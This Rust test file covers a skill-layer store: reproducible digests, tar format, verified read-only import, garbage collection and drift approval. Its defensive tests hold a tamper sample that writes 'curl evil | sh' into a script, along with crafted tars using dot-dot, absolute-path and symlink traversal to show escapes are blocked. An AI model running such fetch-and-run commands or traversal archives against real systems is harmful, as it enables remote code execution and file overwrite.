//! Skill layers: the digest is reproducible and sensitive to exactly what matters, the tar
//! is one other tools read, the store is read-only and verified, gc keeps what any known
//! registry or running session uses, and a hostile layer tar cannot write outside its
//! directory.

use std::collections::BTreeSet;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, SystemTime};

use omac_skills::approval::{self, Drift};
use omac_skills::layer::{self, index, store, tarball, Store};
use omac_skills::registry::{self, Entry};
use omac_skills::{Env, Error, Scope};

fn write(p: &Path, content: &str, mode: u32) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A skill tree with every kind of entry a layer holds.
fn tree(root: &Path) -> PathBuf {
    let d = root.join("skill");
    write(
        &d.join("omac.yaml"),
        "name: skill\nsidecar:\n  command: [./run.sh]\n",
        0o644,
    );
    write(&d.join("run.sh"), "#!/bin/sh\necho hi\n", 0o755);
    write(&d.join("lib/util.py"), "X = 1\n", 0o644);
    let long = "d".repeat(60);
    write(
        &d.join(format!("{long}/{long}/deep-file-with-a-long-name.txt")),
        "deep\n",
        0o644,
    );
    std::fs::create_dir_all(d.join("empty")).unwrap();
    symlink("lib/util.py", d.join("alias.py")).unwrap();
    symlink(format!("/{}/target", "t".repeat(120)), d.join("far-link")).unwrap();
    d
}

/// Copies a tree keeping symlinks as symlinks and the executable bits.
fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let (src, dst) = (e.path(), to.join(e.file_name()));
        let ft = e.file_type().unwrap();
        if ft.is_symlink() {
            symlink(std::fs::read_link(&src).unwrap(), &dst).unwrap();
        } else if ft.is_dir() {
            copy_tree(&src, &dst);
        } else {
            std::fs::copy(&src, &dst).unwrap();
        }
    }
}

fn for_each(p: &Path, f: &mut dyn FnMut(&Path, &std::fs::Metadata)) {
    let m = std::fs::symlink_metadata(p).unwrap();
    f(p, &m);
    if m.is_dir() {
        for e in std::fs::read_dir(p).unwrap() {
            for_each(&e.unwrap().path(), f);
        }
    }
}

fn is_root() -> bool {
    // SAFETY: getuid has no preconditions.
    unsafe { libc::getuid() == 0 }
}

#[test]
fn copies_with_other_times_modes_and_owners_hash_the_same() {
    let t = tempfile::tempdir().unwrap();
    let a = tree(t.path());
    let da = layer::digest(&a).unwrap();
    assert!(da.starts_with("sha256:") && da.len() == 71, "{da}");

    let b = t.path().join("copy");
    copy_tree(&a, &b);
    // Other mtimes (files and directories), other non-executable mode bits.
    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000_000);
    for_each(&b, &mut |p, m| {
        if m.file_type().is_symlink() {
            return;
        }
        let mode = m.permissions().mode() & 0o777;
        let tighter = if mode & 0o100 != 0 { 0o700 } else { 0o600 };
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(tighter)).unwrap();
        let f = std::fs::File::open(p).unwrap();
        f.set_modified(old).unwrap();
    });
    if is_root() {
        // Another owner (only root can give files away; the unprivileged run skips this).
        for_each(&b, &mut |p, _| {
            std::os::unix::fs::lchown(p, Some(1001), Some(1001)).unwrap()
        });
    }
    assert_eq!(layer::digest(&b).unwrap(), da);
    // The digest does not depend on where the tree is, nor on reaching it through a symlink.
    let via = t.path().join("via-link");
    symlink(&b, &via).unwrap();
    assert_eq!(layer::digest(&via).unwrap(), da);
}

#[test]
fn every_change_that_matters_changes_the_digest() {
    type Change = fn(&Path);
    let changes: &[(&str, Change)] = &[
        ("content", |d| {
            write(&d.join("lib/util.py"), "X = 2\n", 0o644)
        }),
        ("executable bit set", |d| {
            std::fs::set_permissions(
                d.join("lib/util.py"),
                std::fs::Permissions::from_mode(0o744),
            )
            .unwrap()
        }),
        ("executable bit cleared", |d| {
            std::fs::set_permissions(d.join("run.sh"), std::fs::Permissions::from_mode(0o644))
                .unwrap()
        }),
        ("symlink target", |d| {
            std::fs::remove_file(d.join("alias.py")).unwrap();
            symlink("run.sh", d.join("alias.py")).unwrap();
        }),
        ("symlink replaced by a file", |d| {
            std::fs::remove_file(d.join("alias.py")).unwrap();
            write(&d.join("alias.py"), "lib/util.py", 0o644);
        }),
        ("file renamed", |d| {
            std::fs::rename(d.join("run.sh"), d.join("run2.sh")).unwrap()
        }),
        ("file added", |d| write(&d.join("NEW"), "", 0o644)),
        ("empty directory added", |d| {
            std::fs::create_dir(d.join("more")).unwrap()
        }),
        ("empty directory removed", |d| {
            std::fs::remove_dir(d.join("empty")).unwrap()
        }),
        ("file removed", |d| {
            std::fs::remove_file(d.join("lib/util.py")).unwrap()
        }),
    ];
    let t = tempfile::tempdir().unwrap();
    let base = tree(t.path());
    let reference = layer::digest(&base).unwrap();
    let mut seen = BTreeSet::from([reference.clone()]);
    for (what, change) in changes {
        let d = t.path().join(what.replace(' ', "-"));
        copy_tree(&base, &d);
        assert_eq!(layer::digest(&d).unwrap(), reference, "copy before {what}");
        change(&d);
        let got = layer::digest(&d).unwrap();
        assert!(
            seen.insert(got),
            "{what} did not change the digest (or collided)"
        );
    }
}

#[test]
fn build_and_cache_folders_and_special_files_do_not_count() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let before = layer::digest(&d).unwrap();
    write(&d.join("node_modules/pkg/index.js"), "x", 0o644);
    write(&d.join(".git/HEAD"), "ref: x", 0o644);
    write(&d.join("lib/__pycache__/util.cpython-311.pyc"), "x", 0o644);
    write(&d.join("lib/target/debug/bin"), "x", 0o755);
    write(&d.join("lib/stray.pyc"), "x", 0o644);
    write(&d.join("notes.txt~"), "x", 0o644);
    write(&d.join(".DS_Store"), "x", 0o644);
    let fifo = d.join("lib/pipe");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    assert_eq!(layer::digest(&d).unwrap(), before);
    let scan = tarball::scan(&d).unwrap();
    assert_eq!(scan.skipped, vec![std::fs::canonicalize(&fifo).unwrap()]);
    // A file called like an excluded folder is content.
    write(&d.join("build"), "a file", 0o644);
    assert_ne!(layer::digest(&d).unwrap(), before);
}

#[test]
fn the_layer_is_a_tar_that_gnu_tar_reads_and_unpacks_to_the_same_digest() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let digest = layer::digest(&d).unwrap();
    let tar_path = t.path().join("layer.tar");
    let f = std::fs::File::create(&tar_path).unwrap();
    tarball::write_tar(&tarball::scan(&d).unwrap(), f).unwrap();
    let sum = Command::new("sha256sum").arg(&tar_path).output().unwrap();
    let sum = String::from_utf8(sum.stdout).unwrap();
    assert_eq!(format!("sha256:{}", &sum[..64]), digest);

    let list = Command::new("tar")
        .args(["--numeric-owner", "--utc", "-tvf"])
        .arg(&tar_path)
        .output()
        .unwrap();
    assert!(
        list.status.success(),
        "{}",
        String::from_utf8_lossy(&list.stderr)
    );
    let list = String::from_utf8(list.stdout).unwrap();
    for line in list.lines() {
        assert!(line.contains(" 0/0 "), "owner not 0/0: {line}");
        assert!(line.contains("1970-01-01 00:00"), "mtime not 0: {line}");
    }
    let mode_of = |name: &str| {
        list.lines()
            .find(|l| l.split_whitespace().nth(5) == Some(name))
            .unwrap_or_else(|| panic!("{name} not listed in\n{list}"))
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    };
    assert_eq!(mode_of("run.sh"), "-rwxr-xr-x");
    assert_eq!(mode_of("omac.yaml"), "-rw-r--r--");
    assert_eq!(mode_of("empty/"), "drwxr-xr-x");
    assert_eq!(mode_of("alias.py"), "lrwxrwxrwx");
    let names: Vec<&str> = list
        .lines()
        .filter_map(|l| l.split_whitespace().nth(5))
        .collect();
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(names, sorted, "entries in byte order");

    // An independent unpacker gives back a tree with the same digest.
    let out = t.path().join("unpacked");
    std::fs::create_dir(&out).unwrap();
    let x = Command::new("tar")
        .arg("-xf")
        .arg(&tar_path)
        .arg("-C")
        .arg(&out)
        .status()
        .unwrap();
    assert!(x.success());
    assert_eq!(layer::digest(&out).unwrap(), digest);
}

fn store_in(t: &Path) -> Store {
    Store::new(&t.join("data"))
}

#[test]
fn import_is_read_only_verified_and_idempotent() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let s = store_in(t.path());
    let imp = s.import_dir(&d, None).unwrap();
    assert!(imp.created);
    assert_eq!(imp.digest, layer::digest(&d).unwrap());
    assert_eq!(imp.path, s.path_of(&imp.digest).unwrap());
    assert_eq!(s.locate(&imp.digest).unwrap(), Some(imp.path.clone()));
    for_each(&imp.path, &mut |p, m| {
        let mode = m.permissions().mode() & 0o7777;
        if m.is_dir() {
            assert_eq!(mode, 0o555, "{}", p.display());
        } else if m.is_file() {
            assert!(
                mode == 0o444 || mode == 0o555,
                "{} is {mode:o}",
                p.display()
            );
        }
    });
    assert_eq!(
        std::fs::metadata(imp.path.join("run.sh"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o555
    );
    assert_eq!(
        std::fs::read_link(imp.path.join("alias.py")).unwrap(),
        PathBuf::from("lib/util.py")
    );
    s.verify(&imp.digest).unwrap();
    let again = s.import_dir(&d, Some(&imp.digest)).unwrap();
    assert!(!again.created);
    let leftovers: Vec<_> = std::fs::read_dir(s.root().join("sha256"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_tampered_layer_is_detected_and_replaced() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let s = store_in(t.path());
    let imp = s.import_dir(&d, None).unwrap();
    let victim = imp.path.join("run.sh");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(&victim, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o555)).unwrap();
    match s.verify(&imp.digest) {
        Err(Error::Corrupt { path, actual }) => {
            assert_eq!(path, imp.path);
            assert_ne!(actual, imp.digest);
        }
        other => panic!("tampering not detected: {other:?}"),
    }
    let again = s.import_dir(&d, None).unwrap();
    assert!(again.created, "the damaged layer is replaced");
    s.verify(&imp.digest).unwrap();
}

#[test]
fn an_import_that_does_not_match_the_approved_digest_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let s = store_in(t.path());
    let approved = layer::digest(&d).unwrap();
    write(&d.join("run.sh"), "#!/bin/sh\nchanged\n", 0o755);
    match s.import_dir(&d, Some(&approved)) {
        Err(Error::Changed { registered, .. }) => assert_eq!(registered, approved),
        other => panic!("{other:?}"),
    }
    assert!(s.list().unwrap().is_empty());
}

#[test]
fn concurrent_imports_of_one_layer_agree() {
    let t = tempfile::tempdir().unwrap();
    let d = tree(t.path());
    let s = store_in(t.path());
    let handles: Vec<_> = (0..4)
        .map(|_| {
            let (s, d) = (s.clone(), d.clone());
            std::thread::spawn(move || s.import_dir(&d, None).unwrap())
        })
        .collect();
    let results: Vec<_> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    assert!(results.iter().all(|r| r.digest == results[0].digest));
    assert_eq!(s.list().unwrap(), vec![results[0].digest.clone()]);
    s.verify(&results[0].digest).unwrap();
}

fn env_for(t: &Path, workdir: &str) -> Env {
    Env {
        workdir: t.join(workdir),
        home: Some(t.join("home")),
        xdg_config_home: None,
        xdg_data_home: Some(t.join("data-home")),
    }
}

/// Registers `dir` in `env`'s workdir registry the way `omac register` does.
fn register(env: &Env, s: &Store, name: &str, dir: &Path) -> String {
    let imp = s.import_dir(dir, None).unwrap();
    registry::update(env, Scope::Workdir, |r| {
        r.upsert(Entry {
            name: name.into(),
            skill_dir: dir.display().to_string(),
            layer_digest: Some(imp.digest.clone()),
            ..Default::default()
        });
        Ok(())
    })
    .unwrap();
    index::record(s, &registry::files(env, Scope::Workdir).unwrap().registry).unwrap();
    imp.digest
}

#[test]
fn gc_keeps_what_any_known_registry_or_pin_uses() {
    let t = tempfile::tempdir().unwrap();
    let (a, b) = (env_for(t.path(), "wa"), env_for(t.path(), "wb"));
    let s = Store::new(&a.data_dir().unwrap());
    let da = register(&a, &s, "one", &tree(&t.path().join("ta")));
    let tb = tree(&t.path().join("tb"));
    write(&tb.join("extra"), "b", 0o644);
    let db = register(&b, &s, "two", &tb);
    let orphan_dir = tree(&t.path().join("tc"));
    write(&orphan_dir.join("extra"), "c", 0o644);
    let orphan = s.import_dir(&orphan_dir, None).unwrap().digest;
    let pinned_dir = tree(&t.path().join("td"));
    write(&pinned_dir.join("extra"), "d", 0o644);
    let pinned = s.import_dir(&pinned_dir, None).unwrap().digest;
    let pin = s.pin(&pinned).unwrap();

    // A dry run from workdir A reports the orphan and removes nothing.
    let dry = omac_skills::gc::gc(&a, &s, true).unwrap();
    assert_eq!(
        dry.report
            .removed
            .iter()
            .map(|r| r.0.clone())
            .collect::<Vec<_>>(),
        vec![orphan.clone()]
    );
    assert_eq!(s.list().unwrap().len(), 4);

    // Run from workdir A: B's layer survives through the index, the pinned one is in use.
    let out = omac_skills::gc::gc(&a, &s, false).unwrap();
    assert_eq!(out.report.removed.len(), 1);
    assert!(out.report.removed[0].1 > 0, "size reported");
    assert_eq!(out.report.in_use, vec![pinned.clone()]);
    let mut want = vec![da.clone(), db.clone(), pinned.clone()];
    want.sort();
    assert_eq!(s.list().unwrap(), want);

    // Unpinned, and B's registry gone: both go, and the index forgets B.
    drop(pin);
    std::fs::remove_file(registry::files(&b, Scope::Workdir).unwrap().registry).unwrap();
    let out = omac_skills::gc::gc(&a, &s, false).unwrap();
    assert_eq!(
        out.forgotten,
        vec![registry::files(&b, Scope::Workdir).unwrap().registry]
    );
    assert_eq!(s.list().unwrap(), vec![da]);
    assert!(!index::load(&s)
        .unwrap()
        .registries
        .contains(&registry::files(&b, Scope::Workdir).unwrap().registry));
    // A pin taken after its layer was collected re-imports cleanly.
    let p = s.pin(&db).unwrap();
    assert!(s.locate(&db).unwrap().is_none());
    assert_eq!(s.import_dir(&tb, Some(&db)).unwrap().digest, db);
    drop(p);
}

#[test]
fn gc_stops_on_a_registry_it_cannot_read() {
    let t = tempfile::tempdir().unwrap();
    let a = env_for(t.path(), "wa");
    let s = Store::new(&a.data_dir().unwrap());
    let d = register(&a, &s, "one", &tree(&t.path().join("ta")));
    let reg = registry::files(&a, Scope::Workdir).unwrap().registry;
    std::fs::write(&reg, "{ not json").unwrap();
    assert!(omac_skills::gc::gc(&a, &s, false).is_err());
    assert_eq!(s.list().unwrap(), vec![d]);
}

#[test]
fn drift_is_detected_and_accepting_it_is_explicit() {
    let t = tempfile::tempdir().unwrap();
    let a = env_for(t.path(), "wa");
    let s = Store::new(&a.data_dir().unwrap());
    let dir = tree(&t.path().join("ta"));
    let digest = register(&a, &s, "one", &dir);
    let entry = registry::load(&a, Scope::Workdir).unwrap().registered[0].clone();
    assert_eq!(
        approval::check(&entry, &dir).unwrap(),
        Drift::Unchanged {
            digest: digest.clone()
        }
    );
    let run = approval::runnable(&s, &entry, &dir, false).unwrap();
    assert_eq!(
        (run.path.clone(), run.accepted_change),
        (s.path_of(&digest).unwrap(), false)
    );
    drop(run);

    write(&dir.join("run.sh"), "#!/bin/sh\necho changed\n", 0o755);
    match approval::runnable(&s, &entry, &dir, false) {
        Err(Error::Changed { registered, .. }) => assert_eq!(registered, digest),
        other => panic!("{other:?}"),
    }
    let run = approval::runnable(&s, &entry, &dir, true).unwrap();
    assert!(run.accepted_change);
    assert_ne!(run.digest, digest);
    assert_eq!(
        std::fs::read_to_string(run.path.join("run.sh")).unwrap(),
        "#!/bin/sh\necho changed\n"
    );
}

#[test]
fn go_registered_skills_are_checked_by_bundle_hash_and_imported_on_first_use() {
    let t = tempfile::tempdir().unwrap();
    let a = env_for(t.path(), "wa");
    let s = Store::new(&a.data_dir().unwrap());
    let dir = tree(&t.path().join("ta"));
    let entry = Entry {
        name: "one".into(),
        bundle_hash: omac_skills::bundle_hash::bundle_hash(&dir).unwrap(),
        ..Default::default()
    };
    let run = approval::runnable(&s, &entry, &dir, false).unwrap();
    assert_eq!(run.digest, layer::digest(&dir).unwrap());
    assert!(run.path.join("omac.yaml").is_file());
    drop(run);
    write(&dir.join("lib/util.py"), "X = 3\n", 0o644);
    assert!(matches!(
        approval::check(&entry, &dir).unwrap(),
        Drift::Changed { .. }
    ));
}

/// One raw tar entry: name, type, link target, content.
type RawEntry<'a> = (&'a [u8], tar::EntryType, &'a [u8], &'a [u8]);

/// Builds a one-entry-at-a-time tar with raw names (bypassing the tar crate's own checks).
fn hostile_tar(entries: &[RawEntry<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, ty, link, data) in entries {
        let mut h = tar::Header::new_ustar();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        if !link.is_empty() {
            h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        }
        h.set_entry_type(*ty);
        h.set_mode(0o644);
        h.set_size(data.len() as u64);
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap()
}

/// What a naive unpacker (no checks) does with the same tar: the probe proving the attack
/// would escape if the checks were missing.
fn naive_unpack(bytes: &[u8], dest: &Path) {
    let mut a = tar::Archive::new(bytes);
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let raw = e.path_bytes().into_owned();
        let target = if raw.starts_with(b"/") {
            PathBuf::from(std::ffi::OsStr::from_bytes(&raw))
        } else {
            dest.join(std::ffi::OsStr::from_bytes(&raw))
        };
        match e.header().entry_type() {
            tar::EntryType::Symlink => {
                let l = e.link_name().unwrap().unwrap().into_owned();
                symlink(l, &target).unwrap();
            }
            tar::EntryType::Directory => std::fs::create_dir_all(&target).unwrap(),
            _ => {
                let mut f = std::fs::File::create(&target).unwrap();
                std::io::copy(&mut e, &mut f).unwrap();
            }
        }
    }
}

use std::os::unix::ffi::OsStrExt;

#[test]
fn hostile_layer_tars_cannot_write_outside_the_layer() {
    let t = tempfile::tempdir().unwrap();
    let outside = t.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let abs = outside.join("abs-pwned");
    let abs_name = abs.as_os_str().as_bytes().to_vec();
    let link_target = outside.as_os_str().as_bytes().to_vec();
    let attacks: Vec<(&str, Vec<u8>, PathBuf)> = vec![
        (
            "dot-dot",
            hostile_tar(&[(
                b"../outside/dotdot-pwned",
                tar::EntryType::Regular,
                b"",
                b"x",
            )]),
            outside.join("dotdot-pwned"),
        ),
        (
            "absolute",
            hostile_tar(&[(&abs_name, tar::EntryType::Regular, b"", b"x")]),
            abs.clone(),
        ),
        (
            "through-a-symlink",
            hostile_tar(&[
                (b"link", tar::EntryType::Symlink, &link_target, b""),
                (b"link/link-pwned", tar::EntryType::Regular, b"", b"x"),
            ]),
            outside.join("link-pwned"),
        ),
    ];
    for (i, (what, bytes, escaped)) in attacks.iter().enumerate() {
        // Unconfined: the naive unpacker does write outside, so the probe can see a breach.
        let probe = t.path().join(format!("naive-{i}"));
        std::fs::create_dir_all(&probe).unwrap();
        naive_unpack(bytes, &probe);
        assert!(
            escaped.exists(),
            "{what}: the probe did not see the naive breach"
        );
        std::fs::remove_file(escaped).unwrap();

        let dest = t.path().join(format!("layer-{i}"));
        let r = store::unpack(&mut bytes.as_slice(), &dest);
        assert!(matches!(r, Err(Error::Invalid { .. })), "{what}: {r:?}");
        assert!(
            !escaped.exists(),
            "{what}: escaped to {}",
            escaped.display()
        );
    }
    // Hard links and devices are not layer content.
    for ty in [
        tar::EntryType::Link,
        tar::EntryType::Char,
        tar::EntryType::Fifo,
    ] {
        let bytes = hostile_tar(&[(b"x", ty, b"omac.yaml", b"")]);
        let dest = t.path().join(format!("layer-{ty:?}"));
        assert!(
            store::unpack(&mut bytes.as_slice(), &dest).is_err(),
            "{ty:?} accepted"
        );
    }
}
